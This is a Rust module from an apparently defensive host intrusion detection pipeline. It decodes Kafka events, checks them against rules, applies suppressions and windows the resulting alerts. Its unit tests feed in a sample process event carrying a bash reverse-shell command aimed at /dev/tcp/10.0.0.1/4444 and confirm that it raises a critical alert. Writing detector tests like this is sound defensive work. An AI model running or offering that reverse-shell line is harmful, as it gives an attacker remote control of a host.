//! From one Kafka message to the hits the store folds into alerts: decode, check the
//! rules, apply the operators' suppressions, place each hit in its alert window. No I/O,
//! so the benchmark measures exactly what the consumer runs.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Instant;

use hids_detect::{Detector, FrequencyLimits, RuleSet};
use hids_store::{Hit, Position};
use hids_types::alert::Suppression;
use hids_types::package::{InventoryPart, INVENTORY_ACTION};
use hids_types::Timestamp;
use serde::Deserialize as _;
use serde_json::Value;

use crate::fleet::book::Seen;
use crate::fleet::presence::Presence;
use crate::fleet::{Fleet, Ownership};
use crate::metrics::{level_label, Malformed, Metrics, ReasonLabel};

/// Labels kept per event, and their length: the agent sends a handful; more is a lie.
const MAX_LABELS: usize = 32;
const MAX_LABEL_BYTES: usize = 256;
/// An event time further than this from the broker's append time, or ahead of ours, is
/// a wrong clock (a VM without NTP, a reset RTC). Wide enough for a spool that held
/// events through a long broker outage.
const CLOCK_TOLERANCE_SECS: u64 = 7 * 86_400;

pub struct Triage {
    detector: Detector,
    window_secs: i64,
    max_event_bytes: usize,
    suppressions: Vec<Suppression>,
    metrics: Arc<Metrics>,
    matches: Vec<hids_detect::Hit>,
    /// The fleet's books, fed every event that names a host (None: detection only).
    fleet: Option<Fleet>,
    /// The event topics, in configuration order: a run's topics are a bit each.
    topics: Vec<String>,
    /// Inventory reports read since the last [`Triage::take_inventories`].
    inventories: Vec<hids_store::InventoryReport>,
    /// The index, to tell which inventories the server holds already (their package
    /// lists are then not parsed).
    inventories_known: Option<Arc<crate::inventory::Inventory>>,
    /// Each host's last processes and listeners, for the console.
    recent: Option<Arc<crate::recent::Recent>>,
}

/// The parts of an event an alert carries besides the rule.
struct Origin {
    host_id: String,
    hostname: String,
    labels: BTreeMap<String, String>,
    event_time: Timestamp,
}

impl Triage {
    pub fn new(
        rules: Arc<RuleSet>,
        max_frequency_keys: usize,
        window_secs: u64,
        max_event_bytes: usize,
        metrics: Arc<Metrics>,
    ) -> Triage {
        Triage {
            detector: Detector::new(
                rules,
                FrequencyLimits {
                    max_keys: max_frequency_keys,
                },
            ),
            window_secs: i64::try_from(window_secs).unwrap_or(3_600).max(1),
            max_event_bytes,
            suppressions: Vec::new(),
            metrics,
            matches: Vec::new(),
            fleet: None,
            topics: Vec::new(),
            inventories: Vec::new(),
            inventories_known: None,
            recent: None,
        }
    }

    /// Keeps each host's last processes and listeners for the console.
    pub fn with_recent(mut self, recent: Arc<crate::recent::Recent>) -> Triage {
        self.recent = Some(recent);
        self
    }

    /// Skips parsing the package lists of inventories the index holds.
    pub fn with_inventory(mut self, inventory: Arc<crate::inventory::Inventory>) -> Triage {
        self.inventories_known = Some(inventory);
        self
    }

    /// Keeps the fleet's books too: program alerts, reconciliation, volume, league.
    pub fn with_fleet(mut self, fleet: Fleet, topics: Vec<String>) -> Triage {
        self.fleet = Some(fleet);
        self.topics = topics;
        self
    }

    pub fn fleet_mut(&mut self) -> Option<&mut Fleet> {
        self.fleet.as_mut()
    }

    /// The fleet's periodic pass; its alerts, past the suppressions, go to `hits`.
    pub fn sweep(
        &mut self,
        ownership: &Ownership,
        presence: Option<&std::sync::Mutex<Presence>>,
        hits: &mut Vec<Hit>,
    ) {
        let Some(fleet) = &mut self.fleet else {
            return;
        };
        let from = hits.len();
        fleet.sweep(ownership, presence, hits);
        self.keep_unsuppressed(hits, from, None);
    }

    /// Drops the hits from `from` on that an operator's suppression covers; counts
    /// those kept.
    fn keep_unsuppressed(&self, hits: &mut Vec<Hit>, from: usize, command_line: Option<&str>) {
        let mut i = from;
        while i < hits.len() {
            let h = &hits[i];
            if self
                .suppressions
                .iter()
                .any(|s| s.covers(&h.rule_id, &h.host_id, &h.labels, command_line))
            {
                self.metrics.suppressed.inc();
                hits.swap_remove(i);
            } else {
                self.metrics.hits.get_or_create(&level_label(h.level)).inc();
                i += 1;
            }
        }
    }

    pub fn set_suppressions(&mut self, suppressions: Vec<Suppression>) {
        self.suppressions = suppressions;
    }

    pub fn detector(&self) -> &Detector {
        &self.detector
    }

    /// Checks one message; appends what it raised to `hits`. `kafka_time` is when Kafka
    /// took it (the message timestamp). A malformed message is counted by reason and
    /// skipped: it never stops the consumer.
    pub fn message(
        &mut self,
        payload: Option<&[u8]>,
        kafka_time: Option<Timestamp>,
        position: Position,
        hits: &mut Vec<Hit>,
    ) {
        self.metrics.events.inc();
        let payload = match payload {
            None | Some([]) => return self.malformed(Malformed::empty),
            Some(p) if p.len() > self.max_event_bytes => {
                return self.malformed(Malformed::too_large)
            }
            Some(p) => p,
        };
        let Some((event, inventory)) = decode(payload) else {
            return self.malformed(Malformed::not_json);
        };
        let Some(mut origin) = origin(&event) else {
            return self.malformed(Malformed::no_host);
        };
        if let Some(trusted) = trusted_time(origin.event_time, kafka_time) {
            self.metrics.clock_skewed.inc();
            origin.event_time = trusted;
        }
        if let Some(recent) = &self.recent {
            recent.observe(&origin.host_id, &event);
        }
        if let Some(fleet) = &mut self.fleet {
            let from = hits.len();
            let topic_index = self
                .topics
                .iter()
                .position(|t| *t == position.topic)
                .unwrap_or(0);
            let seen = Seen {
                host_id: &origin.host_id,
                hostname: &origin.hostname,
                labels: &origin.labels,
                bytes: payload.len(),
                position: &position,
                topic_index: u8::try_from(topic_index).unwrap_or(u8::MAX),
                payload,
            };
            fleet.observe(&event, &seen, hits);
            self.keep_unsuppressed(hits, from, None);
        }
        if let Some(decoded) = inventory {
            let known = self
                .inventories_known
                .as_ref()
                .is_some_and(|i| i.holds(decoded.hash()));
            return match decoded.into_part(known) {
                Ok(part) => self.keep_inventory(part, origin),
                Err(_) => self.malformed(Malformed::bad_inventory),
            };
        }
        if event.pointer("/event/action").and_then(Value::as_str) == Some(INVENTORY_ACTION) {
            return self.inventory(&event, origin);
        }
        let started = Instant::now();
        self.matches.clear();
        self.detector.detect(&event, &mut self.matches);
        let spent = started.elapsed();
        self.metrics.detect_seconds.inc_by(spent.as_secs_f64());
        if self.matches.is_empty() {
            return;
        }
        let command_line = event
            .pointer("/process/command_line")
            .and_then(Value::as_str);
        let raw: Arc<str> = String::from_utf8_lossy(payload).into();
        for m in self.matches.drain(..) {
            let rule = &m.rule;
            if self
                .suppressions
                .iter()
                .any(|s| s.covers(&rule.id, &origin.host_id, &origin.labels, command_line))
            {
                self.metrics.suppressed.inc();
                continue;
            }
            self.metrics
                .hits
                .get_or_create(&level_label(rule.level))
                .inc();
            hits.push(Hit {
                rule_id: rule.id.clone(),
                title: rule.title.clone(),
                level: rule.level,
                techniques: rule.techniques.clone(),
                host_id: origin.host_id.clone(),
                hostname: origin.hostname.clone(),
                labels: origin.labels.clone(),
                window_start: window_start(origin.event_time, self.window_secs),
                event_time: origin.event_time,
                count: m.count,
                event: raw.clone(),
                position: position.clone(),
            });
        }
    }

    /// An inventory report (a part of a host's package list, or its hash): kept for the
    /// consumer to store with the batch; no rule looks at it.
    fn inventory(&mut self, event: &Value, origin: Origin) {
        let part = event
            .pointer("/hids/inventory")
            .and_then(|v| InventoryPart::deserialize(v).ok());
        let Some(part) = part else {
            return self.malformed(Malformed::bad_inventory);
        };
        self.keep_inventory(part, origin);
    }

    fn keep_inventory(&mut self, part: InventoryPart, origin: Origin) {
        let os = &part.os;
        let fields = [&os.id, &os.version_id, &os.codename, &os.name, &part.kernel];
        let short_and_clean = |t: &String| t.len() <= MAX_INVENTORY_FIELD && clean(t);
        if part.hash.len() != 64
            || !part.hash.bytes().all(|b| b.is_ascii_hexdigit())
            || !fields.into_iter().all(short_and_clean)
        {
            return self.malformed(Malformed::bad_inventory);
        }
        self.inventories.push(hids_store::InventoryReport {
            host_id: origin.host_id,
            hostname: origin.hostname,
            labels: origin.labels,
            reported_at: origin.event_time,
            part,
        });
    }

    /// The inventory reports read since the last call, for the consumer to store.
    pub fn take_inventories(&mut self) -> Vec<hids_store::InventoryReport> {
        std::mem::take(&mut self.inventories)
    }

    /// A message over `max_event_bytes`, left unread by the consumer.
    pub fn oversized(&self) {
        self.metrics.events.inc();
        self.malformed(Malformed::too_large);
    }

    fn malformed(&self, reason: Malformed) {
        self.metrics
            .malformed
            .get_or_create(&ReasonLabel { reason })
            .inc();
    }
}

/// The time to use instead of an event's own when its host's clock is plainly wrong:
/// further than the tolerance from the broker's append time (when the topic records
/// one), or ahead of our own clock by more than that. None: the event's time stands.
fn trusted_time(event: Timestamp, broker: Option<Timestamp>) -> Option<Timestamp> {
    let tolerance = CLOCK_TOLERANCE_SECS * 1_000_000_000;
    if let Some(b) = broker {
        return (event.unix_nanos().abs_diff(b.unix_nanos()) > tolerance).then_some(b);
    }
    let now = Timestamp::now();
    (event.unix_nanos() > now.unix_nanos().saturating_add(tolerance)).then_some(now)
}

/// Text fit to name a host or a label: bounded, and without control characters (a NUL
/// is refused by PostgreSQL and would stall the batch; a newline forges log lines).
fn clean(text: &str) -> bool {
    text.len() <= MAX_LABEL_BYTES && !text.chars().any(char::is_control)
}

/// Who the event is about. None without a usable `host.id` string: an alert must name
/// a host.
fn origin(event: &Value) -> Option<Origin> {
    let host_id = event.pointer("/host/id")?.as_str()?;
    if host_id.is_empty() || !clean(host_id) {
        return None;
    }
    let hostname = event
        .pointer("/host/hostname")
        .and_then(Value::as_str)
        .filter(|h| clean(h))
        .unwrap_or_default();
    let labels = event
        .get("labels")
        .and_then(Value::as_object)
        .map(|m| {
            m.iter()
                .filter_map(|(k, v)| Some((k, v.as_str()?)))
                .filter(|(k, v)| !k.is_empty() && clean(k) && clean(v))
                .take(MAX_LABELS)
                .map(|(k, v)| (k.clone(), v.to_owned()))
                .collect()
        })
        .unwrap_or_default();
    // Event time makes windows deterministic, so a redelivered event lands in the same
    // alert; an event without a readable time is placed by our clock.
    let event_time = event
        .get("@timestamp")
        .and_then(Value::as_str)
        .and_then(|t| humantime::parse_rfc3339_weak(t).ok())
        .map(Timestamp)
        .unwrap_or_else(Timestamp::now);
    Some(Origin {
        host_id: host_id.to_owned(),
        hostname: hostname.to_owned(),
        labels,
        event_time,
    })
}

/// The event as JSON values, and an inventory event's undecoded package list: that is
/// not built as JSON values (see inventory/decode.rs). None: not a JSON object.
fn decode(payload: &[u8]) -> Option<(Value, Option<crate::inventory::decode::Decoded<'_>>)> {
    if let Some(mut decoded) = crate::inventory::decode::decode(payload) {
        return Some((std::mem::take(&mut decoded.envelope), Some(decoded)));
    }
    match serde_json::from_slice(payload) {
        Ok(v @ Value::Object(_)) => Some((v, None)),
        _ => None,
    }
}

/// The OS fields and kernel release of an inventory are a few words; longer is not one.
const MAX_INVENTORY_FIELD: usize = 256;

/// The start (unix seconds) of the fixed window `time` falls in.
pub fn window_start(time: Timestamp, window_secs: i64) -> i64 {
    let secs = time.unix_secs();
    secs - secs.rem_euclid(window_secs)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn triage() -> Triage {
        let rules = Arc::new(RuleSet::load(true, &[]).expect("the built-in pack loads"));
        Triage::new(rules, 1000, 3600, 64 * 1024, Arc::new(Metrics::default()))
    }

    fn exec(command_line: &str, executable: &str) -> Vec<u8> {
        serde_json::json!({
            "@timestamp": "2026-11-30T10:00:05.000001Z",
            "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec", "sequence": 3, "module": "hids", "dataset": "hids.process"},
            "host": {"id": "h1", "hostname": "web-1"},
            "labels": {"idc": "bj1", "project": "shop", "weird": 3},
            "process": {"pid": 10, "executable": executable, "command_line": command_line,
                        "args": command_line.split(' ').collect::<Vec<_>>(), "name": executable.rsplit('/').next(),
                        "parent": {"pid": 9, "executable": "/usr/bin/bash", "command_line": "bash"}},
            "user": {"id": "0", "name": "root"},
            "hids": {"plugin": "process", "run_id": "r1"}
        })
        .to_string()
        .into_bytes()
    }

    fn at(offset: i64) -> Position {
        Position {
            topic: "t".into(),
            partition: 0,
            offset,
        }
    }

    #[test]
    fn a_reverse_shell_raises_a_critical_hit_with_host_labels_and_window() {
        let mut t = triage();
        let mut hits = Vec::new();
        let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
        t.message(Some(&ev), None, at(1), &mut hits);
        assert!(!hits.is_empty(), "no hit");
        let h = &hits[0];
        assert_eq!(h.level, hids_types::alert::Level::Critical);
        assert_eq!((h.host_id.as_str(), h.hostname.as_str()), ("h1", "web-1"));
        assert_eq!(h.labels.get("idc").map(String::as_str), Some("bj1"));
        assert!(
            !h.labels.contains_key("weird"),
            "non-string labels are left out"
        );
        assert_eq!(h.window_start % 3600, 0);
        assert_eq!(
            h.event.as_bytes(),
            ev.as_slice(),
            "the evidence is the event as received"
        );
    }

    #[test]
    fn malformed_messages_are_counted_by_reason_and_skipped() {
        let mut t = triage();
        let mut hits = Vec::new();
        t.message(Some(b"not json"), None, at(1), &mut hits);
        t.message(Some(b"[1,2]"), None, at(2), &mut hits);
        t.message(Some(br#"{"host":{"id":7}}"#), None, at(3), &mut hits);
        t.message(None, None, at(4), &mut hits);
        let huge = vec![b'x'; 65 * 1024];
        t.message(Some(&huge), None, at(5), &mut hits);
        // A NUL or newline in the host id: refused before it reaches a store.
        t.message(
            Some(br#"{"host":{"id":"h\u0000x"}}"#),
            None,
            at(6),
            &mut hits,
        );
        t.message(Some(br#"{"host":{"id":"h\nx"}}"#), None, at(7), &mut hits);
        assert!(hits.is_empty());
        let count = |reason| {
            t.metrics
                .malformed
                .get_or_create(&ReasonLabel { reason })
                .get()
        };
        assert_eq!(count(Malformed::not_json), 2);
        assert_eq!(count(Malformed::no_host), 3);
        assert_eq!(count(Malformed::empty), 1);
        assert_eq!(count(Malformed::too_large), 1);
        assert_eq!(t.metrics.events.get(), 7);
    }

    #[test]
    fn a_suppression_accepts_the_hit_and_counts_it() {
        let mut t = triage();
        let mut hits = Vec::new();
        let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
        t.message(Some(&ev), None, at(1), &mut hits);
        let rule_id = hits[0].rule_id.clone();
        let raised = hits.len();
        hits.clear();
        t.set_suppressions(vec![Suppression {
            id: 1,
            rule_id,
            host_id: Some("h1".into()),
            labels: BTreeMap::new(),
            command_line: Some("bash -i >& /dev/tcp/10.0.0.1".into()),
            comment: "red team".into(),
            created_at: None,
        }]);
        t.message(Some(&ev), None, at(2), &mut hits);
        assert_eq!(hits.len(), raised - 1);
        assert_eq!(t.metrics.suppressed.get(), 1);
    }

    #[test]
    fn a_wrong_host_clock_is_replaced_by_kafka_time_and_control_characters_leave_labels() {
        let mut t = triage();
        let mut hits = Vec::new();
        let ev = String::from_utf8(exec(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "/usr/bin/bash",
        ))
        .unwrap()
        .replace("\"weird\":3", "\"bad\\u0000\":\"x\",\"team\":\"a\\nb\"");
        // The event says 2026-11-30; Kafka took it in 2027.
        let kafka =
            Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_830_000_000));
        t.message(Some(ev.as_bytes()), Some(kafka), at(1), &mut hits);
        assert_eq!(hits[0].event_time, kafka);
        assert_eq!(t.metrics.clock_skewed.get(), 1);
        assert_eq!(
            hits[0].labels.keys().collect::<Vec<_>>(),
            ["idc", "project"]
        );
        // A date far in the future is caught without a broker time too.
        hits.clear();
        let future = ev.replace("2026-11-30T10:00:05", "2099-01-01T00:00:00");
        t.message(Some(future.as_bytes()), None, at(3), &mut hits);
        assert!(hits[0].event_time.unix_nanos() <= Timestamp::now().unix_nanos());
        // Within the tolerance the event's own time stands.
        hits.clear();
        let near = Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_796_000_000));
        t.message(Some(ev.as_bytes()), Some(near), at(2), &mut hits);
        assert_ne!(hits[0].event_time, near);
    }

    #[test]
    fn windows_are_fixed_and_aligned() {
        let t = Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(7_199));
        assert_eq!(window_start(t, 3600), 3600);
        assert_eq!(window_start(t, 60), 7_140);
    }
}
